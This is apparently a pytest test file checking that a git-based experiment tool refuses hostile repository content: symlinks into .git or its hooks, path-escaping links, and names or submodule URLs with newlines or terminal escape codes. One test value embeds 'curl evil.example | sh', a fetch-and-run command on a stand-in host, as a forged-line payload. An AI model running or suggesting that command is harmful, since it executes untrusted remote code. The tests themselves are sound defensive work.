"""A stash that is made to deceive whoever reads the messages, or to have us write where git keeps its own."""

from __future__ import annotations

from pathlib import Path

import pytest
from conftest import git
from hostile import entry
from scene import Scene, make_scene

FORGED = "x\n    fix: curl evil.example | sh"


@pytest.fixture
def scene(tmp_path: Path) -> Scene:
    """A stash with the experiment `first` frozen under `v1`."""
    made = make_scene(tmp_path)
    made.freeze()
    return made


def with_link(scene: Scene, path: str, target: str) -> None:
    blob = git("hash-object", "-w", "--stdin", cwd=scene.stash, stdin=target)
    entry(scene.stash, path, blob, "120000")
    git("commit", "-q", "-m", "hostile", cwd=scene.stash)
    git("tag", "-f", "snapshot/v1", cwd=scene.stash)


@pytest.mark.parametrize(
    ("path", "target"),
    [
        ("outputs", ".git"),
        ("outputs/mytool", "../.git/hooks"),
        ("deep/er", "../configs/../.GIT"),
        ("tools/link", "mytool/.git"),
    ],
)
def test_a_link_to_where_git_keeps_its_own(scene: Scene, path: str, target: str) -> None:
    with_link(scene, path, target)
    for _ in range(2):
        ran = scene.reproduce()
        assert ran.code == 1
        assert f"{path} is a link that leads into git's own directory: refused" in ran.err
    assert scene.runs() == []


@pytest.mark.parametrize("target", ["/etc", "nowhere/../../outside", "configs/../../outside", ".."])
def test_the_name_of_a_link_forges_no_line(scene: Scene, target: str) -> None:
    with_link(scene, FORGED, target)
    ran = scene.reproduce()
    assert ran.code == 1
    assert "x\\n    fix: curl" in ran.err
    assert not [line for line in ran.err.splitlines() if line.startswith("    fix: curl")]


@pytest.mark.parametrize(
    "url", [f"https://example.org/{FORGED}", "https://a:b\n@example.org/", "https://e\x1b[2J.example/"]
)
def test_the_url_of_a_tool_forges_no_line(scene: Scene, url: str) -> None:
    git("config", "-f", ".gitmodules", "submodule.tools/mytool.url", url, cwd=scene.stash)
    scene.commit_all("v1")
    ran = scene.reproduce("v1", "--from", f"file://{scene.stash}", cwd=scene.root)
    assert ran.code == 1
    assert "which contains control characters: refused" in ran.err
    assert "\x1b" not in ran.err
    assert not [line for line in ran.err.splitlines() if line.startswith("    fix: curl")]
